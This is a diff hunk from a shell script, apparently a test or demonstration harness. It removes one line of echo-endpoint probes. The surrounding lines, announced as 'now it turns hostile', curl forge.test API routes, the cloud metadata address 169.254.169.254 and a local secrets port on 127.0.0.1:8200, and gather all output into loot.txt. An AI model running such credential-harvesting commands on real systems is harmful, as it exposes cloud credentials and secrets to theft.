@@ -44,7 +44,6 @@ say "now it turns hostile: whatever it can find goes to loot.txt"
     curl -sS -i --compressed "https://api.forge.test/$way"; curl -sS -i "https://api.forge.test/$way"
   done
   at=1; while [ $at -lt 40 ]; do curl -sS "https://api.forge.test/reflect-split?at=$at"; at=$((at + 3)); done
-  curl -sS https://key.forge.test/echo; curl -sS https://basic.forge.test/echo; curl -sS https://query.forge.test/echo
   curl -sS -m 3 http://169.254.169.254/latest/meta-data/; curl -sS -m 3 -k https://127.0.0.1:8200/
 } > loot.txt 2>&1 || true
 echo "  $(wc -c < loot.txt) bytes of loot"
